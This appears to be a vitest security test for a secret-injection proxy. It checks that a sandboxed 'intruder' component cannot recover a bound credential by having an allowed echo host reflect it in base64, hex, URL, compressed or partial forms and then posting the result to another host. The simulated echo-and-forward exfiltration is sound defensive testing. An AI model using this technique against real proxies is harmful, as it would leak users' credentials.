// A component that acts with a secret which it may not see asks the one host that gets it to repeat the request, in
// every encoding it can think of, compressed, in parts, and to send it on to a host of its own.

import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Resident } from '../support/escape.ts'
import {
  allowHost,
  forget,
  INTRUDER,
  loaded,
  message,
  received,
  send,
  withIntruder,
} from '../support/escape.ts'
import { BEARER, bind } from '../support/secrets.ts'

const VALUE = 'S3cret/with+signs=and&more'
const FORMS = ['plain', 'base64', 'base64url', 'hex', 'url', 'every-byte', 'json']
const bytes = Buffer.from(VALUE)

let alice: Resident
beforeAll(async () => {
  alice = await withIntruder()
  for (const host of ['watched.test', 'elsewhere.test']) await allowHost(alice, host)
})
afterAll(async () => {
  await loaded(alice, 'intruder', INTRUDER)
  await alice.agent.close()
})

/** Eight characters of it in a row, in any form, are more than an answer may hold. */
function expectNothingOf(text: string): void {
  for (let at = 0; at + 8 <= bytes.length; at += 1) {
    const part = bytes.subarray(at, at + 8)
    for (const form of [part.toString(), part.toString('hex'), encodeURIComponent(`${part}`)]) {
      expect(text.toLowerCase()).not.toContain(form.toLowerCase())
    }
  }
  for (const before of [0, 1, 2]) {
    const inside = Buffer.concat([Buffer.alloc(before, 'x'), bytes])
      .toString('base64')
      .slice(4, -4)
    expect(text).not.toContain(inside)
    expect(text).not.toContain(inside.replaceAll('+', '-').replaceAll('/', '_'))
  }
}

it.each([
  ['a header', BEARER, ''],
  ['a parameter', { kind: 'query', name: 'key' }, ''],
  ['a password', { kind: 'basic', user: 'a' }, ''],
  ['a placeholder', BEARER, 'HELD'],
] as const)('reads nothing of it where it stands in %s', async (_, placement, placeholder) => {
  const more = placeholder === '' ? {} : { placeholder }
  await bind(alice, 'intruder', 'key', {
    value: VALUE,
    hosts: ['watched.test'],
    placement,
    ...more,
  })
  await forget()
  const held = (await alice.agent.result('ambient')) as string[]
  const text = held.find((line) => line.startsWith('HELD='))?.slice(5) ?? 'none'
  const asking: [string, string][] = [['Authorization', `Bearer ${text}`]]
  const partial: [string, string][] = [...asking, ['Range', 'bytes=0-40']]
  const coded: [string, string][] = [...asking, ['Accept-Encoding', 'deflate, zstd']]
  const told = await send(alice, [
    ...FORMS.map((form) => message(`https://watched.test/echo/${form}?`, { headers: asking })),
    message('https://watched.test/echo/plain-gzip?', { headers: asking }),
    message('https://watched.test/echo/plain?', { headers: partial }),
    message('https://watched.test/echo/plain?', { headers: coded }),
  ])
  for (const line of told) expect(line).toContain('redacted')
  expectNothingOf(told.join('\n'))
  // The server outside did get it, each time, and was asked for neither parts nor other codings.
  const seen = (await received()).watched
  expect(seen).toHaveLength(told.length)
  const written = [VALUE, encodeURIComponent(VALUE), Buffer.from(`a:${VALUE}`).toString('base64')]
  for (const head of seen) expect(written.some((form) => head.includes(form))).toBe(true)
  expect(seen.join('\n')).not.toMatch(/^range:|deflate|zstd/im)
  // What the component has read it sends to its own host.
  await send(alice, [message('https://elsewhere.test/', { method: 'POST', body: told.join() })])
  expectNothingOf((await received()).elsewhere.join('\n'))
})
